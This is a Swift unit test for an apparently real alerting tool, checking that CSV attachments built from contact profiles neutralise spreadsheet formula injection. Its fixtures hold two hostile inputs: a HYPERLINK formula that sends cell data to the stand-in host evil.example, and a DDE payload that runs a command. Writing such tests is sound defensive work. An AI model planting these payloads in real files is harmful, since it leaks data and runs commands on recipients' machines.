import Foundation
import HeraldCore
import Testing

@testable import HeraldAlerter

@Suite("Alert attachments")
struct AlertAttachmentTests {
    static let templates: String = {
        var url = URL(fileURLWithPath: #filePath)
        for _ in 0..<3 { url.deleteLastPathComponent() }
        return url.appendingPathComponent("config/templates/alerts").path
    }()

    @Test("a CSV attachment holds what the contact typed as text: no formula runs when a sales person opens it")
    func csvInjection() async throws {
        let rule = try AlertRule(
            json: try YAMLValue.parse(
                """
                name: Pricing
                pages: ['shop.example/pricing']
                recipients: {cc: [desk@sales.example]}
                attachment: {filename: contact.csv, format: csv, template: "name,company,city\\n{{contact_name}},{{contact.attributes.company}},{{contact.attributes.city}}"}
                """))
        var profile = ContactProfile(id: "c-1")
        profile.attributes = [
            "first_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "company": "+cmd|' /C calc'!A0", "city": "Brno, Morava",
        ]
        let visit = PageVisit(
            eventId: "e-1", url: "https://shop.example/pricing", at: 1_795_500_000_000, session: nil, acceptedAt: 1_795_500_000_000, waiting: [:])
        let renderer = try await AlertRenderer.load(directory: Self.templates)
        let email = renderer.render(rule, data: AlertRenderer.data(rule: rule, visit: visit, dwellMs: nil, profile: profile, contactId: "c-1", activity: []))
        let csv = try #require(email.attachments.first?.content)
        #expect(
            csv == #"""
                name,company,city
                "'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+cmd|' /C calc'!A0,"Brno, Morava"
                """#, "\(csv)")
    }
}
